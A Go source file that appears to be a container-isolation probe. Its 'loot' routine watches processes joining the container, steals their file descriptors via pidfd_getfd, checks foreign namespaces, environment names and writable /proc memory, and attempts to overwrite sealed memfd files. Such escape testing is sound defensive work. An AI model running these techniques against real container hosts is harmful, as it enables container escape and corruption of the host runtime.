package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

// loot takes all that it can from the processes that join the container, while
// they do: descriptors, root, working directory, namespaces, environment. It
// prints each thing of theirs that is not the container's own.
func loot(a []string) error {
	seconds, err := strconv.Atoi(a[0])
	if err != nil {
		return err
	}
	fmt.Println("watching")
	bag := &found{seen: map[string]bool{}}
	end := time.Now().Add(time.Duration(seconds) * time.Second)
	var spinners sync.WaitGroup
	for range 4 {
		spinners.Go(func() {
			for time.Now().Before(end) {
				for _, pid := range others() {
					bag.take(pid)
				}
			}
		})
	}
	spinners.Wait()
	fmt.Println("done")
	return nil
}

// found prints a thing once.
type found struct {
	mu   sync.Mutex
	seen map[string]bool
}

func (f *found) add(words ...any) {
	text := fmt.Sprintln(words...)
	f.mu.Lock()
	defer f.mu.Unlock()
	if !f.seen[text] {
		f.seen[text] = true
		fmt.Print(text)
	}
}

func (f *found) take(pid int) {
	dir := fmt.Sprintf("/proc/%d/", pid)
	if exe, err := os.Readlink(dir + "exe"); err != nil || exe == "/probe" {
		return
	}
	f.add("joiner")
	for _, link := range []string{"root", "cwd"} {
		f.directory(link, dir+link)
	}
	for _, ns := range []string{"mnt", "pid", "pid_for_children", "net", "ipc", "uts", "cgroup", "user", "time"} {
		mine, _ := os.Readlink("/proc/self/ns/" + ns)
		if its, err := os.Readlink(dir + "ns/" + ns); err == nil && its != mine {
			f.add("foreign namespace", ns)
		}
	}
	f.environment(dir + "environ")
	f.descriptors(pid)
	if mem, err := os.OpenFile(dir+"mem", os.O_RDWR, 0); err == nil {
		f.add("memory")
		mem.Close()
	}
}

// directory tells of one that lies on another file system than the container's.
func (f *found) directory(name, path string) {
	var its, own unix.Stat_t
	if unix.Stat(path, &its) != nil || unix.Stat("/", &own) != nil {
		return
	}
	if its.Dev != own.Dev {
		target, _ := os.Readlink(path)
		f.add("foreign directory", name, target)
	}
}

func (f *found) environment(path string) {
	b, _ := os.ReadFile(path)
	for _, e := range strings.Split(string(b), "\x00") {
		name, _, _ := strings.Cut(e, "=")
		if name != "" && os.Getenv(name) == "" && !strings.HasPrefix(name, "_LIBCONTAINER_") {
			f.add("variable", name)
		}
	}
}

// descriptors are duplicated out of the process. Pipes, sockets and what has no
// name are its talk with the supervisor; a file or a directory would be a way out.
func (f *found) descriptors(pid int) {
	pidfd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return
	}
	defer unix.Close(pidfd)
	for n := 3; n < 64; n++ {
		fd, err := unix.PidfdGetfd(pidfd, n, 0)
		if err != nil {
			continue
		}
		target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		kind, _, _ := strings.Cut(target, ":")
		switch {
		case kind == "pipe" || kind == "socket" || kind == "anon_inode" || strings.HasPrefix(target, "/memfd:"):
			f.add("descriptor", kind)
			f.writable(target, fd)
		default:
			f.named(target, fd)
		}
		unix.Close(fd)
	}
}

// named is a file or directory. The runtime's own handle of procfs shows the
// processes that the container sees anyway; with more in it, it would get round
// what is masked there.
func (f *found) named(target string, fd int) {
	var fs unix.Statfs_t
	var its, own unix.Stat_t
	if unix.Fstatfs(fd, &fs) != nil || unix.Fstat(fd, &its) != nil || unix.Stat("/", &own) != nil {
		return
	}
	switch {
	case fs.Type == unix.PROC_SUPER_MAGIC && unix.Faccessat(fd, "kcore", unix.F_OK, 0) == nil:
		f.add("whole procfs", target)
	case fs.Type == unix.PROC_SUPER_MAGIC:
		f.add("descriptor procfs")
	case its.Dev == own.Dev || visible(target, &its):
		f.add("descriptor of the container")
	default:
		f.add("foreign descriptor", target, fs.Type)
	}
}

// visible: the container has the same file by the same name, as /dev/null.
func visible(target string, its *unix.Stat_t) bool {
	var own unix.Stat_t
	return unix.Stat(target, &own) == nil && own.Dev == its.Dev && own.Ino == its.Ino
}

// writable tries to change what must be sealed.
func (f *found) writable(target string, fd int) {
	if !strings.HasPrefix(target, "/memfd:") {
		return
	}
	if _, err := unix.Pwrite(fd, []byte{0}, 0); err == nil {
		f.add("overwritten", target)
	}
}
